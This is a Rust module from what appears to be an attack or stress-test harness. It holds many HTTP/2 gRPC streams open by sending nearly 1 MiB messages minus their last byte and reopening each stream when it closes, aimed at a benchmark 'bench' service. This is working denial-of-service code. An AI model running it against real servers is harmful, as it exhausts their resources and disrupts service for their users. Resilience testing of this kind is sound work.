//! Messages of which all is sent but the last byte, on as many calls as a connection may have; a call that ends is made again.

use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use h2::client::SendRequest;
use http::Request;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout_at};

use super::asked::LOOK_UP;
use super::calling::{Line, told};
use crate::attack::Target;

const CONNECTIONS: usize = 8;
const CALLS: usize = 128;
const GAME: &str = "/tilewright.v1.PuzzleService/BlindSession";
/// What a message may have, in its frame.
const MOST: u32 = 1 << 20;
/// Before a call is made again.
const REST: Duration = Duration::from_millis(100);

pub(crate) async fn run(target: Arc<Target>) {
    let body: Bytes = [&[0][..], &MOST.to_be_bytes(), &vec![b'x'; MOST as usize - 1]].concat().into();
    let mut tasks = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let mut line = Line::to(&target);
        let Ok(Some(send)) = timeout_at(target.until, line.send()).await else { return };
        for call in 0..CALLS {
            let (target, send, body) = (Arc::clone(&target), send.clone(), body.clone());
            let path = if call % 2 == 0 { LOOK_UP } else { GAME };
            tasks.spawn_local(async move {
                let until = target.until;
                let holds = async {
                    while let Ok(how) = half(send.clone(), path, body.clone(), &target).await {
                        target.met(&how, 1);
                        sleep(REST).await;
                    }
                };
                let _ = timeout_at(until, holds).await;
            });
        }
    }
    tasks.join_all().await;
}

/// Sends all but the end, and waits for what becomes of it.
async fn half(send: SendRequest<Bytes>, path: &str, body: Bytes, target: &Target) -> Result<String, h2::Error> {
    let head = Request::post(format!("http://bench{path}")).header("te", "trailers");
    let head = head.header("content-type", "application/grpc").body(()).expect("a request");
    let (answer, mut stream) = send.ready().await?.send_request(head, false)?;
    target.sent("messages but for their last byte", 1);
    stream.send_data(body, false)?;
    Ok(told(answer.await?.headers()))
}
